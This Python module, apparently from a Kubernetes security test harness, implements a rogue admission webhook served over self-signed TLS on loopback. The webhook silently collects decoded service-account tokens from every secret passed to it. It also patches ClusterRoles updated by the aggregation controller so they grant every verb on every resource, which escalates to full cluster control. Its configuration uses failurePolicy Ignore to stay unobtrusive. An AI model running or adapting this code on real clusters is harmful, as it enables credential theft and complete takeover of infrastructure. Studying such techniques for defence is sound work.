"""A webhook of the robot's own: it keeps the tokens that it is shown, and fills the roles that the
control plane gathers."""
import base64
import http.server
import json
import ssl
import threading

from cluster import openssl

GATHERER = "system:serviceaccount:kube-system:clusterrole-aggregation-controller"
ALL = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]


class Listener:
    """Listens on loopback, in a thread, as a context manager."""

    def __init__(self, folder):
        self.tokens, self.certificate, key = set(), folder / "hook.crt", folder / "hook.key"
        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2",
                "-keyout", key, "-out", self.certificate, "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1")
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                body = json.dumps(listener.answer(review, self.path)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.certificate, key)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()

    def answer(self, review, path):
        request = review["request"]
        seen = request.get("object") or {}
        for shown in (seen, request.get("oldObject") or {}):
            token = (shown.get("data") or {}).get("token")
            if shown.get("type") == "kubernetes.io/service-account-token" and token:
                self.tokens.add(base64.b64decode(token).decode())
        response = {"uid": request["uid"], "allowed": True}
        if path == "/change" and seen.get("kind") == "ClusterRole" and request["userInfo"]["username"] == GATHERER:
            patch = [{"op": "add", "path": "/rules", "value": ALL}]
            response.update(patchType="JSONPatch", patch=base64.b64encode(json.dumps(patch).encode()).decode())
        return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": response}

    def hooks(self, path):
        """What goes into a webhook configuration."""
        return [{
            "name": "z.example.com", "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore",
            "timeoutSeconds": 2, "clientConfig": {
                "url": f"https://127.0.0.1:{self.server.server_port}/{path}",
                "caBundle": base64.b64encode(self.certificate.read_bytes()).decode()},
            "rules": [{"operations": ["CREATE", "UPDATE", "DELETE"], "apiGroups": ["", "rbac.authorization.k8s.io"],
                       "apiVersions": ["v1"], "resources": ["secrets", "clusterroles"]}]}]
